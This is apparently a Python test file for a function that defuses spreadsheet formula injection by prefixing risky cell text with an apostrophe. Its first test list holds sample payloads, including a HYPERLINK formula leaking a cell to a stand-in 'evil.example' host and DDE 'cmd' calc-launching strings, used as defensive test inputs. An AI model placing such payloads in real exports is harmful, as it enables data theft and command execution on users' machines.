"""Cells we write: text that a spreadsheet would run as a formula is neutralised, nothing else."""

from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from qa_app.domain.spreadsheet_cells import FORMULA_TRIGGERS, safe_cell, starts_like_a_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
        "+44 1670 000000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "\uff1d1+1",  # full-width equals sign
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text",
    ["", "Oak House", "a = b", "Tea @ 3", "'=already escaped", " =1+1", "1-2", "Jo Smith-Jones"],
)
def test_other_text_is_unchanged(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [-5, 0, 12, -1.5, Decimal("-2.25"), date(2026, 12, 8), datetime(2026, 12, 8, 9, 30), None],
)
def test_numbers_dates_and_empty_cells_keep_their_type(value):
    result = safe_cell(value)
    assert result == value and type(result) is type(value)


@given(st.text())
def test_no_text_comes_out_looking_like_a_formula_and_nothing_is_lost(text):
    result = safe_cell(text)
    assert not starts_like_a_formula(result)
    assert result == text or (result.startswith("'") and result[1:] == text)
    assert (result != text) == text.startswith(FORMULA_TRIGGERS)
